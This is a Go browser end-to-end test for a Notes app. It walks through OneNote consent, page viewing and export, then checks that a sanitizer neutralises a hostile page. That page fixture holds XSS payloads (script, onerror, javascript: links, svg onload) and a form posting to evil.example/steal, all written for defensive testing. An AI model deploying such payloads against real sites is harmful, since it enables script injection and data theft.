package e2e

import (
	"archive/zip"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"github.com/graphauth/graphauth/internal/emulator"
)

// notesJourney: a signed-in user opens Notes for the first time, allows Notes.Read on the
// identity platform's consent page (incremental consent), walks notebook -> section -> page,
// views the page's HTML, and downloads it as Markdown. Then a page written by someone hostile is
// opened: nothing in it runs, and the browser sends no request to another origin.
func notesJourney(s *stack, u emulator.User, downloads string) []step {
	var hostileID string
	return []step{
		{name: "open Notes: the app asks for OneNote access", shot: "notes-consent", do: func(ctx context.Context, b *tab) error {
			if err := b.open(ctx, "/"); err != nil {
				return err
			}
			if err := b.click(ctx, "#notes-link", "#allow-notes"); err != nil {
				return err
			}
			return b.expectAt(ctx, "/notes/consent")
		}},
		{name: "allow OneNote access on the identity platform", shot: "notes-emulator-consent", do: func(ctx context.Context, b *tab) error {
			if err := b.click(ctx, "#allow-notes", "#signin-form, #consent-form"); err != nil {
				return err
			}
			if n, _ := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll("#signin-form").length`)); n > 0 {
				// The emulator keeps no single-sign-on session: the user picks the account again.
				if err := b.click(ctx, `button[data-upn="`+u.UserPrincipalName+`"]`, "#consent-form"); err != nil {
					return err
				}
			}
			return b.expectText(ctx, "#scopes", "Notes.Read")
		}},
		{name: "accept: back on Notes", shot: "notes", do: func(ctx context.Context, b *tab) error {
			if err := b.click(ctx, "#accept", "#notebooks"); err != nil {
				return err
			}
			if err := b.expectAt(ctx, "/notes"); err != nil {
				return err
			}
			return b.waitFor(ctx, ".section-link")
		}},
		{name: "open a section", shot: "notes-section", do: func(ctx context.Context, b *tab) error {
			if err := b.click(ctx, ".section-link", "#pages"); err != nil {
				return err
			}
			return b.waitFor(ctx, ".page-link")
		}},
		{name: "open a page", shot: "notes-page", do: func(ctx context.Context, b *tab) error {
			before := len(s.posts.resourcesSeen())
			if err := b.click(ctx, ".page-link", "#page-frame"); err != nil {
				return err
			}
			if err := b.expectText(ctx, "#page-meta", "created"); err != nil {
				return err
			}
			// The rendered page loads its images through the app's proxy, with the session.
			deadline := time.Now().Add(5 * time.Second)
			for time.Now().Before(deadline) {
				if seen := s.posts.resourcesSeen()[before:]; len(seen) > 0 {
					for _, r := range seen {
						if r.Status != 200 || !r.HadCookie || !strings.HasPrefix(r.ContentType, "image/") {
							return fmt.Errorf("the page's image %s: status %d, cookie %v, type %q", r.Path, r.Status, r.HadCookie, r.ContentType)
						}
					}
					return nil
				}
				time.Sleep(50 * time.Millisecond)
			}
			return fmt.Errorf("the rendered page loaded no image through /notes/resources")
		}},
		{name: "View HTML", shot: "notes-view-html", do: func(ctx context.Context, b *tab) error {
			if err := b.click(ctx, "#view-html summary", "#page-html"); err != nil {
				return err
			}
			return b.expectText(ctx, "#page-html", "data-absolute-enabled", "<div")
		}},
		{name: "download as Markdown", do: func(ctx context.Context, b *tab) error {
			file, err := b.download(ctx, "#download-md", downloads)
			if err != nil {
				return err
			}
			zr, err := zip.OpenReader(file)
			if err != nil {
				return fmt.Errorf("the download is not a zip: %w", err)
			}
			defer zr.Close()
			var md, assets int
			for _, f := range zr.File {
				switch {
				case strings.HasSuffix(f.Name, ".md") && !strings.Contains(f.Name, "/"):
					md++
				case strings.HasPrefix(f.Name, "assets/"):
					assets++
				}
			}
			if md != 1 || assets == 0 {
				return fmt.Errorf("the zip holds %d Markdown files and %d assets, want 1 and some", md, assets)
			}
			return nil
		}},
		{name: "export a notebook", shot: "notes-export-progress", do: func(ctx context.Context, b *tab) error {
			if err := b.open(ctx, "/notes"); err != nil {
				return err
			}
			if err := b.waitFor(ctx, `button[id^="export-notebook-"]`); err != nil {
				return err
			}
			// Slow Graph down a little, so the export of the larger notebook (Work Notes, 12 pages,
			// 5 at a time) runs long enough to watch.
			s.Emu.FailNext(emulator.Fault{Endpoint: "onenote:content", Delay: 1500 * time.Millisecond, Count: 40})
			if err := b.click(ctx, `li.notebook:last-child button[id^="export-notebook-"]`, "#export-status"); err != nil {
				return err
			}
			// The progress moves: pages done takes at least two values while the export runs.
			seen := map[string]bool{}
			for len(seen) < 2 {
				done, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(document.getElementById("export-pages-done")||{}).textContent||""`))
				if err != nil {
					return err
				}
				status, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`(document.getElementById("export-status")||{}).textContent||""`))
				if !strings.HasPrefix(status, "Running") {
					return fmt.Errorf("the export ended (%q) before its progress was seen to move (pages done seen: %v)", status, seen)
				}
				if done != "" {
					seen[done] = true
				}
				time.Sleep(150 * time.Millisecond)
			}
			return nil
		}},
		{name: "the export finishes: download the zip", shot: "notes-export-done", do: func(ctx context.Context, b *tab) error {
			if err := b.waitFor(ctx, "#export-download"); err != nil {
				return err
			}
			file, err := b.download(ctx, "#export-download", downloads)
			if err != nil {
				return err
			}
			zr, err := zip.OpenReader(file)
			if err != nil {
				return fmt.Errorf("the export is not a zip: %w", err)
			}
			defer zr.Close()
			var report, indexes, pages int
			for _, f := range zr.File {
				switch {
				case f.Name == "export-report.md":
					report++
				case strings.HasSuffix(f.Name, "index.md"):
					indexes++
				case strings.HasSuffix(f.Name, ".md"):
					pages++
				}
			}
			if report != 1 || indexes == 0 || pages == 0 {
				return fmt.Errorf("the export holds %d reports, %d indexes and %d pages", report, indexes, pages)
			}
			return nil
		}},
		{name: "open a hostile page", shot: "notes-hostile", do: func(ctx context.Context, b *tab) error {
			var err error
			if hostileID == "" {
				ids := s.Emu.OneNoteSectionIDs(u.ID)
				if len(ids) == 0 {
					return fmt.Errorf("the user has no section")
				}
				if hostileID, err = s.Emu.AddOneNotePage(u.ID, ids[0], "Hostile", hostilePage, nil); err != nil {
					return err
				}
			}
			b.takeRequests()
			if err := b.open(ctx, "/notes/pages/"+hostileID); err != nil {
				return err
			}
			if err := b.waitFor(ctx, "#page-frame"); err != nil {
				return err
			}
			// Give the frame time to do whatever it would do.
			time.Sleep(500 * time.Millisecond)
			for _, u := range b.takeRequests() {
				if !strings.HasPrefix(u, b.appBase+"/") && !strings.HasPrefix(u, "data:") {
					return fmt.Errorf("the hostile page made the browser request %s", u)
				}
			}
			return nil
		}},
	}
}

// hostilePage tries every way to run script or reach another origin that a sanitizer must stop.
const hostilePage = `<html><head><title>Hostile</title><base href="https://evil.example/"></head>
<body><div style="position:absolute;left:0;top:0"><p>Harmless text</p>
<script>alert(1)</script><img src="x" onerror="alert(2)"><a id="js" href="javascript:alert(3)">click</a>
<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/steal"><input name="p"></form>
<svg onload="alert(5)"></svg><p style="background:url(https://evil.example/bg.png)">styled</p>
<img src="https://evil.example/track.png" alt="tracker"><style>body{background:url(https://evil.example/css)}</style>
<object data="https://evil.example/x.swf"></object><video src="https://evil.example/v.mp4" autoplay></video></div></body></html>`

// download clicks sel and waits for the browser to finish the download it starts; it returns
// the downloaded file's path.
func (b *tab) download(ctx context.Context, sel, dir string) (string, error) {
	c := chromedp.FromContext(ctx)
	done := make(chan string, 1)
	chromedp.ListenBrowser(ctx, func(ev any) {
		if e, ok := ev.(*browser.EventDownloadProgress); ok && e.State == browser.DownloadProgressStateCompleted {
			select {
			case done <- e.GUID:
			default:
			}
		}
	})
	events := true
	if _, err := chromedp.CallBrowser(ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{
		Behavior: browser.SetDownloadBehaviorBehaviorAllowAndName, DownloadPath: dir, EventsEnabled: &events,
		BrowserContextID: c.BrowserContextID}); err != nil {
		return "", fmt.Errorf("allow downloads: %w", err)
	}
	if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS(sel))); err != nil {
		return "", fmt.Errorf("click %s: %w", sel, err)
	}
	select {
	case guid := <-done:
		file := filepath.Join(dir, guid)
		if _, err := os.Stat(file); err != nil {
			return "", fmt.Errorf("downloaded file: %w", err)
		}
		return file, nil
	case <-ctx.Done():
		return "", fmt.Errorf("waiting for the download: %w", ctx.Err())
	}
}
